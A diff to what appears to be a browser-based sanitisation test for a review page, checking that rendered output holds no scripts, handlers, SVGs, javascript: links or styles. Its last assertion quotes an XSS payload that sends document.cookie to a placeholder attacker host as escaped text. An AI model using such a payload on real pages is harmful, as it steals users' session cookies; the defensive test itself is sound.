@@ -125,7 +125,7 @@ describe('review page in Chromium', () => {
         a.getAttribute('href')?.trim().toLowerCase().startsWith('javascript:'),
       ).length,
       styles: document.querySelectorAll('style').length,
-      text: document.body.innerText,
+      text: document.body.textContent,
     }));
     expect(dom).toMatchObject({ scripts: 0, handlers: 0, svgs: 0, jsLinks: 0, styles: 0 });
     expect(dom.text).toContain(`<script>fetch('http://${PAYLOAD_HOST}/steal?c='+document.cookie)</script>`);
